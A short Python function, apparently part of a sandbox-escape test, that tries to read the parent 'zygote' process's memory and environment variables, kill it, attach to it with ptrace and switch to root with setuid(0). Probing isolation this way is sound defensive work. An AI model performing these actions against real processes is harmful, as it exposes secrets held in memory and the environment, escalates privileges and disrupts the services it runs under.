def strategy_config():
    ppid = os.getppid()

    def read_mem():
        with open(f"/proc/{ppid}/mem", "rb") as f:
            f.read(1)

    return {
        "zygote_mem": attempt(read_mem),
        "zygote_environ": attempt(lambda: open(f"/proc/{ppid}/environ", "rb").read()),
        "kill_zygote": attempt(lambda: os.kill(ppid, 9)),
        "ptrace_zygote": syscall(101, 16, ppid, 0, 0),
        "setuid_zygote": attempt(lambda: os.setuid(0)),
    }
